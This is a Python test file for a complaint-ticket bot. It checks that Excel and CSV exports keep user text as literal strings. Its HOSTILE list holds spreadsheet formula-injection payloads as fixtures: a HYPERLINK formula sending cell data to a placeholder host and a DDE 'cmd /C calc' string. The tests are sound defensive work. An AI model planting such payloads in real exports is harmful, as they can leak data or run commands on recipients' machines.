"""Exports are data, never code: texts that look like formulas stay string cells (read back with
openpyxl) in the monthly ledger and in the grid worker's /report file; CSV fields are made
literal."""

from __future__ import annotations

import codecs
import csv
import io
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import update

import bot.reports
from bot.reports.exports import csv_bytes, csv_field, put
from bot.reports.writer import write_monthly_report
from handlers.reports import ReportRenderer
from models.clock import FixedClock
from models.config.schema import GridDeskConfig
from models.orm import TicketRow
from models.uow import UnitOfWorkFactory
from tests.reports.conftest import OCTOBER
from tests.reports.test_report_command import run

SQLITE = pytest.mark.parametrize("backend", ["sqlite"])

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"点击查看照片")',
    "+1+2 楼道灯坏了",
    "-2+3 电梯停了",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 漏水",
    "=1+1",
]


def test_every_text_is_a_string_cell(tmp_path: Path) -> None:
    book = Workbook()
    sheet = book.active
    for row, text in enumerate(HOSTILE, start=1):
        put(sheet, row, 1, text)
        put(sheet, row, 2, row)  # numbers stay numbers
    put(sheet, 20, 1, "#N/A")  # not an error cell either
    put(sheet, 21, 1, "响\x07铃")  # a control character Excel refuses is dropped
    path = tmp_path / "cells.xlsx"
    book.save(path)
    read = load_workbook(path).active
    for row, text in enumerate(HOSTILE, start=1):
        assert (read.cell(row, 1).data_type, read.cell(row, 1).value) == ("s", text)
        assert (read.cell(row, 2).data_type, read.cell(row, 2).value) == ("n", row)
    assert (read["A20"].data_type, read["A20"].value) == ("s", "#N/A")
    assert read["A21"].value == "响铃"


async def _poison(factory: UnitOfWorkFactory, tickets: dict[str, TicketRow]) -> dict[str, str]:
    """Gives three of the month's tickets hostile complaint texts and addresses."""
    texts = {"T1": HOSTILE[0], "T2": HOSTILE[3], "T3": HOSTILE[4]}
    async with factory() as uow:
        for name, text in texts.items():
            await uow.session.execute(
                update(TicketRow)
                .where(TicketRow.id == tickets[name].id)
                .values(original_text=text, address_text=HOSTILE[2])
            )
        await uow.commit()
    return texts


def _cells(path: Path, sheet: str) -> list[tuple[str, object]]:
    book = load_workbook(path)
    return [(c.data_type, c.value) for row in book[sheet].iter_rows() for c in row]


@SQLITE
async def test_monthly_ledger_stores_texts_not_formulas(
    month_tickets: dict[str, TicketRow],
    uow_factory: UnitOfWorkFactory,
    demo_config: GridDeskConfig,
    tmp_path: Path,
) -> None:
    texts = await _poison(uow_factory, month_tickets)
    async with uow_factory() as uow:
        files = await write_monthly_report(uow, demo_config, "MDHY", OCTOBER, tmp_path)
    cells = _cells(files.xlsx, "明德花园第一网格")
    for text in texts.values():
        assert ("s", text) in cells
    assert ("s", HOSTILE[2]) in cells  # the address column
    assert all(kind != "f" for kind, _ in cells)


@pytest.fixture
def renderers(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[ReportRenderer]:
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    yield bot.reports.FileRenderer()


@SQLITE
async def test_the_workers_report_file_stores_texts_not_formulas(
    month_tickets: dict[str, TicketRow],
    uow_factory: UnitOfWorkFactory,
    demo_config: GridDeskConfig,
    clock: FixedClock,
    renderers: ReportRenderer,
) -> None:
    texts = await _poison(uow_factory, month_tickets)
    _, _, documents = await run(uow_factory, demo_config, clock, "MDHY-01-W1", renderer=renderers)
    assert len(documents) == 1
    cells = _cells(documents[0], "明德花园第一网格")
    for text in texts.values():
        assert ("s", text) in cells
    assert all(kind != "f" for kind, _ in cells)


def test_csv_fields_are_literal() -> None:
    data = csv_bytes(["内容", "件数"], [[text, 3] for text in HOSTILE])
    assert data.startswith(codecs.BOM_UTF8)  # Excel reads it as UTF-8
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["内容", "件数"]
    assert [row[0] for row in rows[1:]] == ["'" + text for text in HOSTILE]
    assert {row[1] for row in rows[1:]} == {"3"}
    assert csv_field("楼道灯坏了") == "楼道灯坏了" and csv_field(-2) == "-2"
    assert csv_field(None) == ""
